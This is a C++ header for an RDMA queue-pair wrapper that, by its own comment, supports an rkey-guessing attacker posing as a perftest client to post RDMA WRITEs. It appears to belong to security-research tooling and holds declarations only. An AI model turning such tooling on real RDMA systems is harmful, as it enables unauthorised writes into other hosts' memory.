// One RC queue pair with one registered buffer, written against <infiniband/verbs.h> only
// (softverbs here, any RDMA NIC elsewhere): what the rkey-guessing attacker needs to look
// like an ordinary perftest client and to post RDMA WRITEs.
#pragma once

#include <infiniband/verbs.h>

#include <array>
#include <chrono>
#include <cstdint>
#include <string>
#include <vector>

namespace insert::attack {

// The remote end of the connection, as perftest's exchange gave it.
struct RcPeer {
    uint32_t qpn = 0;
    uint32_t psn = 0;  // the PSN it sends with: our receive PSN
    std::array<uint8_t, 16> gid{};
};

class RcQp {
  public:
    ~RcQp();
    // Opens the verbs device whose GID 0 is `local_ip` (IPv4-mapped), or the first device
    // when `local_ip` is empty; creates PD, CQ, an RC QP, and registers `buffer_bytes`.
    bool open(const std::string& local_ip, std::size_t buffer_bytes);
    // RESET -> INIT -> RTR -> RTS towards `peer`, sending from `sq_psn`. From any state:
    // after a fatal NAK the QP is in Error and this brings it back with the PSN given.
    bool connect(const RcPeer& peer, uint32_t sq_psn);
    // Posts one signaled RDMA WRITE of `len` bytes from the buffer and waits (bounded) for
    // its completion. Returns false only if none came; `wc` has the status.
    bool write(uint64_t wr_id, uint64_t remote_va, uint32_t rkey, uint32_t len, ibv_wc& wc,
               std::chrono::milliseconds limit);

    uint32_t qpn() const { return qp_ ? qp_->qp_num : 0; }
    uint32_t rkey() const { return mr_ ? mr_->rkey : 0; }
    uint64_t addr() const { return reinterpret_cast<uint64_t>(buffer_.data()); }
    const std::array<uint8_t, 16>& gid() const { return gid_; }
    const std::string& local_ip() const { return local_ip_; }
    const std::string& error() const { return error_; }

  private:
    bool fail(const std::string& what);
    bool modify(ibv_qp_attr& a, int mask, const char* to);
    std::string error_;
    std::string local_ip_;
    std::array<uint8_t, 16> gid_{};
    ibv_context* ctx_ = nullptr;
    ibv_pd* pd_ = nullptr;
    ibv_cq* cq_ = nullptr;
    ibv_qp* qp_ = nullptr;
    ibv_mr* mr_ = nullptr;
    std::vector<uint8_t> buffer_;
};

// "10.0.0.1" -> ::ffff:10.0.0.1 as a GID; false if not an IPv4 address.
bool ipv4_gid(const std::string& ip, std::array<uint8_t, 16>& gid);
// The IPv4 address of an IPv4-mapped GID, or "" if it is not one.
std::string gid_ipv4(const std::array<uint8_t, 16>& gid);

}  // namespace insert::attack
